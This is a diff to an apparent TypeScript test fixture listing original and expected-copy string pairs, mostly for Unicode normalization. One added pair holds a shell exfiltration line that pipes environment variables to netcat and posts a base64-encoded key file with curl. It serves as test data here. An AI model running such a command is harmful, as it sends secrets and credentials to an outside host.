@@ -33,6 +33,8 @@ const COPIES: readonly (readonly [original: string, copy: string])[] = [
   ["か\u3099", "が"],
   ["مُحَمَّد", "محمد"],
   ["ﷺ", "ﷺ"],
+  ["he|p and te|| them", "help and te|| them"],
+  ["env|nc host 1; cat key|BASE64|curl -d @-", "env|nc host 1; cat key|base64|curl -d @-"],
   ["", ""],
 ];
 
